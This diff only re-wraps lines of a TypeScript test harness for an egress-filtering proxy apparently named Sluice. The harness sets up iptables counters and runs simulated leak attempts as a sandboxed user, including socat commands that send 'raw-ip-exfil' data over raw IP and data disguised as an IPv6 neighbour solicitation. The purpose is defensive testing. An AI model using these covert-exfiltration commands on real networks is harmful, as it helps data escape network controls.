@@ -38,10 +38,23 @@ export interface Internet {
 
 // Kernel-level counters, in rule order.
 const KERNEL: Record<4 | 6, [string, string[]][]> = {
-  4: [['syn4', ['-p', 'tcp', '--syn']], ['udp4', ['-p', 'udp']], ['icmp4', ['-p', 'icmp', '--icmp-type', 'echo-request']], ['raw4', ['-p', '253']]],
-  6: [['syn6', ['-p', 'tcp', '--syn']], ['udp6', ['-p', 'udp']], ['icmp6', ['-p', 'ipv6-icmp', '--icmpv6-type', 'echo-request']], ['raw6', ['-p', '253']],
+  4: [
+    ['syn4', ['-p', 'tcp', '--syn']],
+    ['udp4', ['-p', 'udp']],
+    ['icmp4', ['-p', 'icmp', '--icmp-type', 'echo-request']],
+    ['raw4', ['-p', '253']],
+  ],
+  6: [
+    ['syn6', ['-p', 'tcp', '--syn']],
+    ['udp6', ['-p', 'udp']],
+    ['icmp6', ['-p', 'ipv6-icmp', '--icmpv6-type', 'echo-request']],
+    ['raw6', ['-p', '253']],
     // Data dressed up as neighbour discovery: an NS carrying the marker below as its target.
-    ['ndp6', ['-p', 'ipv6-icmp', '--icmpv6-type', '135', '-m', 'string', '--algo', 'bm', '--hex-string', '|20010db8deadbeef|']]],
+    [
+      'ndp6',
+      ['-p', 'ipv6-icmp', '--icmpv6-type', '135', '-m', 'string', '--algo', 'bm', '--hex-string', '|20010db8deadbeef|'],
+    ],
+  ],
 };
 /** A neighbour solicitation (type 135, hop limit 255) whose target address is the exfiltrated "data". */
 const FAKE_NDP = Buffer.from('8700000000000000' + '20010db8deadbeef0000000000000001', 'hex');
@@ -65,7 +78,10 @@ function udpCounter(t: Test, type: 'udp4' | 'udp6', host: string, port: number):
 }
 
 /** Starts the internet's servers and counters. Call once the INET addresses exist on this namespace's veth. */
-export async function buildInternet(t: Test, names: Record<string, { a?: string[]; aaaa?: string[] }>): Promise<Internet> {
+export async function buildInternet(
+  t: Test,
+  names: Record<string, { a?: string[]; aaaa?: string[] }>,
+): Promise<Internet> {
   for (const family of [4, 6] as const) {
     const ipt = family === 4 ? 'iptables' : 'ip6tables';
     must(ipt, ['-N', 'CANARY']);
@@ -85,7 +101,10 @@ export async function buildInternet(t: Test, names: Record<string, { a?: string[
   const kernel = (): Hits => {
     const out: Hits = {};
     for (const family of [4, 6] as const) {
-      const rows = must(family === 4 ? 'iptables' : 'ip6tables', ['-L', 'CANARY', '-n', '-v', '-x']).split('\n').slice(2).filter(Boolean);
+      const rows = must(family === 4 ? 'iptables' : 'ip6tables', ['-L', 'CANARY', '-n', '-v', '-x'])
+        .split('\n')
+        .slice(2)
+        .filter(Boolean);
       KERNEL[family].forEach(([name], i) => (out[name] = Number(rows[i]?.trim().split(/\s+/)[0] ?? NaN)));
     }
     return out;
@@ -123,12 +142,22 @@ export function directAttacks(): Attack[] {
   const out: Attack[] = [];
   for (const host of [INET.v4, INET.v6]) {
     out.push({ kind: 'tcp', host, port: 80 }, { kind: 'tcp', host, port: 9000 }, { kind: 'udp', host, port: 9000 });
-    out.push({ kind: 'dns-udp', host, port: 53 }, { kind: 'dns-tcp', host, port: 53 }, { kind: 'resolver', host, port: 53 });
+    out.push(
+      { kind: 'dns-udp', host, port: 53 },
+      { kind: 'dns-tcp', host, port: 53 },
+      { kind: 'resolver', host, port: 53 },
+    );
   }
   return out;
 }
 
-const asWorkload = (extra: string[] = []) => ['setpriv', `--reuid=${WORKLOAD_UID}`, `--regid=${WORKLOAD_UID}`, '--clear-groups', ...extra];
+const asWorkload = (extra: string[] = []) => [
+  'setpriv',
+  `--reuid=${WORKLOAD_UID}`,
+  `--regid=${WORKLOAD_UID}`,
+  '--clear-groups',
+  ...extra,
+];
 
 /** Runs the workload's attacks as its UID in `ns`. */
 export async function attack(ns: string, attacks: readonly Attack[]): Promise<Outcome[]> {
@@ -150,7 +179,10 @@ export async function rawAttacks(ns: string, v4: string = INET.v4, v6: string = 
     raw4: await runAsync(rc!, [...ra, 'socat', '-u', 'STDIN', `IP4-SENDTO:${v4}:253`], { ns, input: 'raw-ip-exfil' }),
     raw6: await runAsync(rc!, [...ra, 'socat', '-u', 'STDIN', `IP6-SENDTO:[${v6}]:253`], { ns, input: 'raw-ip-exfil' }),
     // IPPROTO_IPV6 (41), IPV6_UNICAST_HOPS (16) = 255: what NDP looks like on the wire.
-    ndp6: await runAsync(rc!, [...ra, 'socat', '-u', 'STDIN', `IP6-SENDTO:[${v6}]:58,setsockopt-int=41:16:255`], { ns, input: FAKE_NDP }),
+    ndp6: await runAsync(rc!, [...ra, 'socat', '-u', 'STDIN', `IP6-SENDTO:[${v6}]:58,setsockopt-int=41:16:255`], {
+      ns,
+      input: FAKE_NDP,
+    }),
   };
 }
 
@@ -173,7 +205,12 @@ export function writeProofConfig(listen: { http: string; dns: string }): string 
     dns: { servers: [`${INET.v4}:53`], timeoutMs: 2000, minTtlS: 0, maxTtlS: 1 },
     identities: { agent: { password: AUTH.split(':')[1] } },
     // The canaries live in documentation ranges; the exceptions are bound to the test names only.
-    addressGuard: { allow: [{ cidr: '203.0.113.0/24', hosts: ['canary4.test'] }, { cidr: '2001:db8:1::/64', hosts: ['canary6.test'] }] },
+    addressGuard: {
+      allow: [
+        { cidr: '203.0.113.0/24', hosts: ['canary4.test'] },
+        { cidr: '2001:db8:1::/64', hosts: ['canary6.test'] },
+      ],
+    },
     upstream: { connectTimeoutMs: 5000 },
     containment: { probe: { target: `${INET.v4}:80`, intervalS: 5, timeoutMs: 2000 } },
   });
@@ -196,15 +233,38 @@ export interface SluiceProcess {
 }
 
 /** Starts `sluice serve` as UID 10001 inside `ns` (the TypeScript sources, through the suite's own tsx loader). */
-export async function startSluiceProcess(t: Test, ns: string, configPath: string, opts: { caps?: boolean } = {}): Promise<SluiceProcess> {
+export async function startSluiceProcess(
+  t: Test,
+  ns: string,
+  configPath: string,
+  opts: { caps?: boolean } = {},
+): Promise<SluiceProcess> {
   const loader = process.execArgv.filter((a) => a === '--import=tsx' || a === '--enable-source-maps');
   // CAP_SETUID/CAP_SETGID as ambient capabilities: what the containment probe needs to run as another UID.
   const caps = opts.caps ? ['--inh-caps', '+setuid,+setgid', '--ambient-caps', '+setuid,+setgid'] : [];
-  const child: ChildProcess = spawn('ip', ['netns', 'exec', ns, 'setpriv', `--reuid=${SLUICE_UID}`, `--regid=${SLUICE_UID}`, '--clear-groups', ...caps,
-    process.execPath, ...loader, CLI, 'serve', '--config', configPath], {
-    env: { PATH: process.env.PATH ?? '/usr/bin:/bin', HOME: '/nonexistent' },
-    stdio: ['ignore', 'pipe', 'pipe'],
-  });
+  const child: ChildProcess = spawn(
+    'ip',
+    [
+      'netns',
+      'exec',
+      ns,
+      'setpriv',
+      `--reuid=${SLUICE_UID}`,
+      `--regid=${SLUICE_UID}`,
+      '--clear-groups',
+      ...caps,
+      process.execPath,
+      ...loader,
+      CLI,
+      'serve',
+      '--config',
+      configPath,
+    ],
+    {
+      env: { PATH: process.env.PATH ?? '/usr/bin:/bin', HOME: '/nonexistent' },
+      stdio: ['ignore', 'pipe', 'pipe'],
+    },
+  );
   const logs: Record<string, unknown>[] = [];
   let stderr = '';
   let partial = '';
@@ -220,17 +280,20 @@ export async function startSluiceProcess(t: Test, ns: string, configPath: string
     }
   });
   child.stderr!.on('data', (d: Buffer) => (stderr += d.toString()));
-  const exited = new Promise<number | null>((r) => child.on('exit', (code, signal) => {
-    if (signal) stderr += `\n(killed by ${signal})`;
-    r(code);
-  }));
+  const exited = new Promise<number | null>((r) =>
+    child.on('exit', (code, signal) => {
+      if (signal) stderr += `\n(killed by ${signal})`;
+      r(code);
+    }),
+  );
   t.teardown(() => {
     if (child.exitCode === null && child.signalCode === null) child.kill('SIGKILL');
   });
   const started = await Promise.race([
     exited.then((code) => `exited ${code}`),
     (async () => {
-      for (let i = 0; i < 3600 && !/Sluice http listening on/.test(stderr); i++) await new Promise((r) => setTimeout(r, 50));
+      for (let i = 0; i < 3600 && !/Sluice http listening on/.test(stderr); i++)
+        await new Promise((r) => setTimeout(r, 50));
       return /Sluice http listening on/.test(stderr) ? 'ok' : 'no start in 180s';
     })(),
   ]);
@@ -247,7 +310,11 @@ export async function startSluiceProcess(t: Test, ns: string, configPath: string
 }
 
 /** Waits (bounded) for a log line; returns it. */
-export async function waitForLog(p: SluiceProcess, match: (l: Record<string, unknown>) => boolean, timeoutMs = 60_000): Promise<Record<string, unknown>> {
+export async function waitForLog(
+  p: SluiceProcess,
+  match: (l: Record<string, unknown>) => boolean,
+  timeoutMs = 60_000,
+): Promise<Record<string, unknown>> {
   for (let waited = 0; waited < timeoutMs; waited += 50) {
     const hit = p.logs.find(match);
     if (hit) return hit;
@@ -256,7 +323,8 @@ export async function waitForLog(p: SluiceProcess, match: (l: Record<string, unk
   throw new Error('log line not seen');
 }
 
-export const setupSh = (ns: string, args: string[], env: Record<string, string> = {}) => runAsync(SETUP, args, { ns, env: { ...process.env, ...env } });
+export const setupSh = (ns: string, args: string[], env: Record<string, string> = {}) =>
+  runAsync(SETUP, args, { ns, env: { ...process.env, ...env } });
 
 /** Attempts that must all have failed: no connection, no reply, no answer. */
 export function leaks(outcomes: readonly Outcome[]): Outcome[] {
